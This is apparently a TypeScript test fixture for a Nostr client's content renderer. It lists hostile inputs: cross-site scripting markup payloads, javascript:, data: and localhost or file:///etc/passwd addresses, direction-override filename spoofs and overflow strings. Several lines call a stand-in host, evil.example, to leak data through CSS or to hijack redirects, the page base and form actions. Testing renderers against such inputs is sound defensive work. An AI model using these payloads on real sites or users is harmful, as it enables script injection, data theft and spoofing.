import { invoiceOf, secretPair } from '../../../support/money/invoices.ts';

/** Every payload that runs sets this name on the window, which proves a successful attack. */
const RUN = 'window.breached=1';

/** E-01: text that runs as script if it is parsed as markup. */
export const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><script href="data:,${RUN}"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<input autofocus onfocus="${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<a href="javascript:${RUN}">press</a>`,
  `"><img src=x onerror="${RUN}">`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/?leak)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<form id=root name=submit action=https://evil.example><input name=attributes></form>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red" id="main" class="app">over everything</div>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `&lt;img src=x onerror=${RUN}&gt; &#x3c;script&#x3e;`,
];

/** E-04: addresses that must not become links, pictures or frames. */
export const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://media.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  'blob:https://media.example/1',
  'file:///etc/passwd',
  'view-source:https://media.example',
  'http://127.0.0.1:9/private.png',
  'http://[::ffff:127.0.0.1]/private.png',
  'http://0x7f000001/private.png',
  'http://localhost:9/private.png',
  'https://user:secret@media.example/x.png',
];

/** E-07: characters that change the direction of the text after them. */
export const BIDI = [
  '\u202egnp.exe',
  '\u2066\u202dabc\u202e',
  'invoice\u202efdp.exe',
  '\u200f\u200eboth',
  'עברית و العربية',
];

/** E-08: text that overflows its line, its row or the page. */
export const GROWING = [
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(120)}algo`,
  '\u200b'.repeat(5_000) + 'after nothing',
  '👩‍👩‍👧‍👦'.repeat(500),
  '\n'.repeat(3_000) + 'far below',
  'https://media.example/' + 'a'.repeat(4_000),
  'W'.repeat(100_000),
  '#'.repeat(2_000) + ' ' + '@'.repeat(2_000) + ' ' + ':'.repeat(2_000),
  `nostr:npub1${'q'.repeat(4_000)}`,
  Array.from({ length: 300 }, (_, nth) =>
    invoiceOf(secretPair(nth).hash, { amountMsats: 21_000 }),
  ).join('\n'),
  Array.from({ length: 300 }, (_, nth) => `https://media.example/${nth}.mp4`).join('\n'),
];
